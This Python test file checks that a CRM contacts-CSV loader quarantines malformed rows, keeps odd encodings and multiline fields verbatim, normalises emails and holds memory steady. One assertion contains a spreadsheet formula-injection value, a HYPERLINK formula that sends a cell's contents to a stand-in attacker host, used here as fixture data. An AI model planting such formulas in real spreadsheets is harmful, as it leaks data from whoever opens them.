"""RELIABILITY test 9, hostile CRM CSV: a HubSpot contacts export with a BOM, Latin-1 lines inside
UTF-8, quoted newlines, the same email in mixed case, `=HYPERLINK(...)` cells, bad rows and a cut
last line. 200k rows here (the bench runs 1M): bad rows are quarantined with their line numbers,
nothing else is lost or mangled, staging normalises the emails, and the loader's memory does not
grow with the file (each size is loaded by `import-crm` in a subprocess of its own)."""

from __future__ import annotations

import json
import subprocess
import sys
import uuid

import pytest

from ingestion.sources.crm import testing
from ingestion.sources.crm.testing import compile_crm_models, crm_query, write_contacts

ROWS = 200_000
SMALL_ROWS = 50_000
# peak RSS of the loading subprocess over its baseline (dlt, pyarrow, a connection), in MB
MAX_GROWTH_MB = 150
MAX_GROWTH_DIFFERENCE_MB = 50  # 4x the rows may not cost more than this on top

pytestmark = pytest.mark.slow


def _import_in_subprocess(path, dataset: str, tmp_path) -> dict:
    done = subprocess.run([sys.executable, "-m", testing.__name__, str(path), dataset, str(tmp_path / f"dlt_{dataset}")],
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.fixture(scope="module")
def loaded(tmp_path_factory, _datasets):
    tmp_path = tmp_path_factory.mktemp("hostile")
    runs = {}
    for rows in (SMALL_ROWS, ROWS):
        path = tmp_path / f"hubspot-contacts-{rows}.csv"
        expected = write_contacts(path, rows)
        dataset = f"test_raw_crm_{uuid.uuid4().hex[:8]}"
        _datasets.append(dataset)
        runs[rows] = (expected, dataset, _import_in_subprocess(path, dataset, tmp_path))
    expected, dataset, result = runs[ROWS]
    models = compile_crm_models(dataset, tmp_path)
    return runs, models


def _query(sql: str, *args) -> list[tuple]:
    from devsignal import db

    with db.connect() as conn, conn.cursor() as cur:
        cur.execute(sql, args or None)
        return cur.fetchall()


def test_bad_rows_are_quarantined_with_their_line_numbers(loaded):
    runs, _ = loaded
    expected, dataset, result = runs[ROWS]
    assert result["rows_read"] == expected.records == ROWS
    assert result["new"] == expected.loaded and result["updated"] == 0 and result["repeated_in_file"] == 0
    assert result["quarantined"] == len(expected.quarantine)
    assert _query(f'select count(*) from "{dataset}".hubspot_contacts') == [(expected.loaded,)]
    quarantined = dict(_query(f'select line, reason from "{dataset}"."_quarantine" where file = %s',
                              f"hubspot-contacts-{ROWS}.csv"))
    assert set(quarantined) == set(expected.quarantine)
    for line, kind in expected.quarantine.items():
        keyword = {"12 fields": "12 fields but 11 headers", "NUL": "NUL byte", "0x81": "byte 0x81",
                   "truncated": "truncated last record"}.get(kind, kind)
        assert keyword in quarantined[line], (line, quarantined[line])
    # every row is accounted for: loaded + quarantined = records read
    assert expected.loaded + len(expected.quarantine) == expected.records


def test_nothing_is_mangled(loaded):
    runs, _ = loaded
    expected, dataset, result = runs[ROWS]
    assert result["latin1_lines"] == expected.latin1 and result["formula_rows"] == expected.formulas
    latin1 = _query(f'select distinct first_name, last_name, _encoding from "{dataset}".hubspot_contacts '
                    f"where _encoding <> 'utf-8'")
    assert latin1 == [("José", "Müller", "utf-8+cp1252")]
    utf8 = _query(f'select count(*) from "{dataset}".hubspot_contacts where first_name in (%s, %s)', "Søren", "Zoë")
    assert utf8[0][0] > 0
    formulas = _query(f'select distinct company_name from "{dataset}".hubspot_contacts where _has_formula')
    assert formulas == [('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',)]  # verbatim
    # a record with a quoted newline keeps it, and the line it starts on
    multi = _query(f'select record_id, company_name, _source_line from "{dataset}".hubspot_contacts '
                   f"where record_id = %s", str(100_000 + testing.MULTILINE_EVERY))
    assert multi == [(str(100_000 + testing.MULTILINE_EVERY), f"Company {testing.MULTILINE_EVERY}\nLabs, Inc.",
                      testing.MULTILINE_EVERY + 1)]


def test_staging_normalises_the_mixed_case_emails(loaded):
    runs, models = loaded
    expected, dataset, _ = runs[ROWS]
    rows = _query(crm_query(models, "select count(*), count(email), count(distinct email), "
                                    "count(*) filter (where email <> lower(btrim(email_raw))) "
                                    "from stg_crm__hubspot_contacts"))
    total, with_email, distinct, changed = rows[0]
    assert total == with_email == expected.loaded
    assert distinct == len(expected.emails) < expected.loaded  # the mixed-case copies collapse
    assert changed == 0


def test_memory_does_not_grow_with_the_file(loaded):
    runs, _ = loaded
    growth = {rows: run[2]["peak_rss_mb"] - run[2]["base_rss_mb"] for rows, run in runs.items()}
    print(f"\npeak RSS growth: {SMALL_ROWS:,} rows {growth[SMALL_ROWS]:.0f} MB, {ROWS:,} rows {growth[ROWS]:.0f} MB; "
          f"{ROWS:,} rows loaded in {runs[ROWS][2]['seconds']:.1f}s")
    assert growth[ROWS] < MAX_GROWTH_MB
    assert growth[ROWS] - growth[SMALL_ROWS] < MAX_GROWTH_DIFFERENCE_MB
